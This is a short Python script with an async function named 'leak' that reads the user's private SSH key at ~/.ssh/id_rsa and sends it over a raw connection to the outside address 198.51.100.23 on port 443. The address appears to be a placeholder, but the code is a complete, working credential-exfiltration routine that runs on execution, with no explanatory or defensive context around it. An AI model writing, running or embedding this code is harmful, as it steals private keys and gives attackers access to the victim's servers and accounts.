import asyncio
import os


async def leak():
    reader, writer = await asyncio.open_connection("198.51.100.23", 443)
    writer.write(open(os.path.expanduser("~/.ssh/id_rsa"), "rb").read())
    await writer.drain()


asyncio.run(leak())
